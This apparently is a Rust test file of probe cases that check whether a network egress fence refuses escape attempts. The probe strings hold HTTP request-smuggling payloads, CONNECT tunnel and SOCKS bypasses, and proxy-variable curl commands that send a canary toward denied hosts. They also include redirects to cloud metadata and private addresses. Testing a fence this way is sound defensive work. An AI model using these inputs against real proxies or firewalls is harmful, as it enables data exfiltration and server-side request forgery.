//! Where a request ends, and other ways to say one thing to the fence and another to the server.

use crate::probe::Sign::{Canary, HostService, Metadata, Packet};
use crate::probe::{Probe, probe};

/// Where one request ends and the next begins.
pub(crate) const SMUGGLING: &[Probe] = &[
    probe(
        "NE25a",
        "a_length_and_chunks_are_refused",
        "say('POST /{CANARY}', 'Content-Length: 4', 'Transfer-Encoding: chunked', \
         body='0\\r\\n\\r\\n')",
    )
    .fence("framing"),
    probe(
        "NE25b",
        "chunks_and_a_length_are_refused",
        "say('POST /{CANARY}', 'Transfer-Encoding: chunked', 'Content-Length: 40', \
         body='0\\r\\n\\r\\n')",
    ),
    probe(
        "NE25c",
        "two_encodings_are_refused",
        "say('POST /{CANARY}', 'Transfer-Encoding: chunked', 'Transfer-Encoding: identity', \
         body='0\\r\\n\\r\\n')",
    ),
    probe(
        "NE25d",
        "an_unknown_encoding_is_refused",
        "say('POST /{CANARY}', 'Transfer-Encoding: xchunked', body='0\\r\\n\\r\\n')",
    ),
    probe(
        "NE25e",
        "a_list_of_encodings_is_refused",
        "say('POST /{CANARY}', 'Transfer-Encoding: identity, chunked', body='0\\r\\n\\r\\n')",
    ),
    probe(
        "NE25f",
        "two_lengths_are_refused",
        "say('POST /{CANARY}', 'Content-Length: 1', 'Content-Length: 2', body='ab')",
    ),
    probe(
        "NE25g",
        "a_length_that_is_no_plain_number_is_refused",
        "each(*[say('POST /{CANARY}', 'Content-Length: ' + n, body='ab') for n in ('+2', '0x2', \
         '2, 2', '-1', '2.0', '2 2')])",
    ),
    probe(
        "NE25h",
        "lines_that_end_in_a_bare_line_feed_are_refused",
        "raw('allowed.test', f'GET /{CANARY} HTTP/1.1\\nHost: allowed.test\\n\\n')",
    ),
    probe("NE25i", "a_bare_carriage_return_is_refused", "say('GET /{CANARY}', 'X: a\\rb')"),
    probe("NE25j", "a_folded_header_is_refused", "say('GET /{CANARY}', 'X: a', ' b')"),
    probe(
        "NE25k",
        "a_space_before_the_colon_is_refused",
        "say('POST /{CANARY}', 'Transfer-Encoding : chunked', body='0\\r\\n\\r\\n')",
    ),
    probe("NE25l", "a_nul_in_a_header_is_refused", "say('GET /{CANARY}', 'X: a\\0b')"),
    probe(
        "NE25m",
        "chunks_in_an_old_version_are_refused",
        "say('POST /{CANARY}', 'Transfer-Encoding: chunked', body='0\\r\\n\\r\\n', \
         version='HTTP/1.0')",
    ),
    probe(
        "NE25n",
        "an_extended_chunk_does_not_get_out",
        "say('POST /', 'Transfer-Encoding: chunked', \
         body='5;x={CANARY}\\r\\nhello\\r\\n0\\r\\n\\r\\n')",
    ),
    probe(
        "NE25o",
        "a_trailer_does_not_get_out",
        "say('POST /', 'Transfer-Encoding: chunked', body='0\\r\\nX: {CANARY}\\r\\n\\r\\n')",
    ),
    probe(
        "NE25p",
        "a_chunk_of_an_odd_length_does_not_get_out",
        "each(*[say('POST /', 'Transfer-Encoding: chunked', body=n + \
         '\\r\\n{CANARY}\\r\\n0\\r\\n\\r\\n') for n in ('0x20', '+20', ' 20', \
         '00000000000000000020')])",
    ),
    probe(
        "NE25q",
        "a_version_that_is_not_known_is_refused",
        "each(*[say('GET /{CANARY}', version='HTTP/' + v) for v in ('0.9', '1.2', '2.0', '1.1x')])",
    ),
    probe(
        "NE25r",
        "a_request_without_a_version_is_refused",
        "raw('allowed.test', f'GET /{CANARY}\\r\\n\\r\\n')",
    ),
    probe(
        "NE25s",
        "a_header_line_before_the_first_is_refused",
        "say('GET /{CANARY}', ' X: a', 'Host: allowed.test', host=None)",
    ),
    probe(
        "NE25t",
        "a_head_without_an_end_does_not_get_out",
        "raw('allowed.test', f'GET /{CANARY} HTTP/1.1\\r\\nHost: allowed.test\\r\\n' + \
         'X: a\\r\\n' * 20000)",
    ),
    probe(
        "NE26a",
        "what_comes_before_an_upgrade_is_accepted_does_not_get_out",
        "say('GET /status/200', 'Connection: Upgrade', 'Upgrade: websocket', \
         'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', \
         body='GET /{CANARY} HTTP/1.1\\r\\nHost: {CANARY}.denied.test\\r\\n\\r\\n')",
    ),
    probe(
        "NE26b",
        "an_upgrade_to_http2_in_clear_is_refused",
        "say('GET /{CANARY}', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', \
         'HTTP2-Settings: AAMAAABkAAQAAP__')",
    ),
    probe(
        "NE26c",
        "http2_in_clear_is_refused",
        "raw('allowed.test', two([('allowed.test', '/'+CANARY, [])], 'http'))",
    ),
    probe(
        "NE26d",
        "an_upgrade_to_something_else_is_refused",
        "say('GET /{CANARY}', 'Connection: Upgrade', 'Upgrade: tcp')",
    ),
];

/// Other ways to the same end.
pub(crate) const DETOURS: &[Probe] = &[
    probe(
        "NE27a",
        "a_tunnel_through_an_allowed_host_is_refused",
        "say('CONNECT {CANARY}.denied.test:443', host='{CANARY}.denied.test:443')",
    ),
    probe(
        "NE27b",
        "a_tunnel_to_the_allowed_host_itself_is_refused",
        "say('CONNECT allowed.test:443', 'X: {CANARY}')",
    ),
    probe(
        "NE27c",
        "a_tunnel_to_an_address_is_refused",
        "say('CONNECT 169.254.169.254:80', 'X: {CANARY}')",
    ),
    probe(
        "NE27d",
        "a_tunnel_inside_tls_is_refused",
        "say_within('CONNECT {CANARY}.denied.test:443')",
    ),
    probe(
        "NE27e",
        "what_follows_a_tunnel_s_request_at_once_does_not_get_out",
        "raw('allowed.test', f'CONNECT allowed.test:443 \
         HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'.encode() + \
         records(client_hello(CANARY+'.denied.test')))",
    ),
    probe(
        "NE28a",
        "a_proxy_of_the_environment_is_out_of_reach",
        "run(f'http_proxy=http://93.184.216.20:8080 curl -sS -m 3 http://allowed.test/{CANARY}')",
    )
    .by(&[Canary, Packet("93.184.216.20")]),
    probe(
        "NE28b",
        "a_socks_proxy_of_the_environment_is_out_of_reach",
        "run(f'ALL_PROXY=socks5h://93.184.216.20:1080 curl -sS -m 3 http://allowed.test/{CANARY}')",
    )
    .by(&[Canary, Packet("93.184.216.20")]),
    probe(
        "NE28c",
        "ignoring_every_proxy_leads_nowhere",
        "run(f'env -u http_proxy -u https_proxy -u ALL_PROXY NO_PROXY=* curl -sS -m 3 \
         --noproxy \\\"*\\\" http://denied.test/{CANARY}')",
    ),
    probe(
        "NE28d",
        "another_source_port_and_interface_lead_nowhere",
        "each(*[run(f'curl -sS -m 3 --local-port {port} http://93.184.216.20/{CANARY}') for \
         port in (53, 443)])",
    )
    .as_root(),
    probe(
        "NE29a",
        "a_socks_proxy_is_out_of_reach",
        "socks('93.184.216.20', 1080, CANARY+'.denied.test', 80)",
    ),
    probe(
        "NE29b",
        "a_socks_proxy_at_an_allowed_host_is_out_of_reach",
        "socks('allowed.test', 1080, CANARY+'.denied.test', 80)",
    ),
    probe(
        "NE29c",
        "the_gateway_is_no_socks_proxy",
        "socks('192.0.0.1', 1080, CANARY+'.denied.test', 80)",
    ),
    probe(
        "NE30a",
        "a_redirect_to_metadata_leads_nowhere",
        "get('http://allowed.test/redirect?to=http://169.254.169.254/')",
    )
    .by(&[Metadata, Packet("169.254.169.254")]),
    probe(
        "NE30b",
        "a_redirect_to_a_denied_host_leads_nowhere",
        "get('https://allowed.test/redirect?to=https://denied.test/')",
    )
    .by(&[Packet("93.184.216.20")]),
    probe(
        "NE30c",
        "a_redirect_to_a_private_network_leads_nowhere",
        "get('http://allowed.test/redirect?to=http://10.0.0.5/')",
    )
    .by(&[Packet("10.0.0.5")]),
    probe(
        "NE30d",
        "a_redirect_to_the_host_leads_nowhere",
        "get('http://allowed.test/redirect?to=http://127.0.0.1:7777/')",
    )
    .by(&[HostService]),
    probe(
        "NE30e",
        "a_lasting_redirect_is_judged_anew",
        "get('http://allowed.test/redirect?status=308&to=http://denied.test/', method='POST', \
         data='x')",
    )
    .control("get('http://allowed.test/redirect?status=307&to=http://denied.test/')")
    .by(&[Packet("93.184.216.20")]),
];
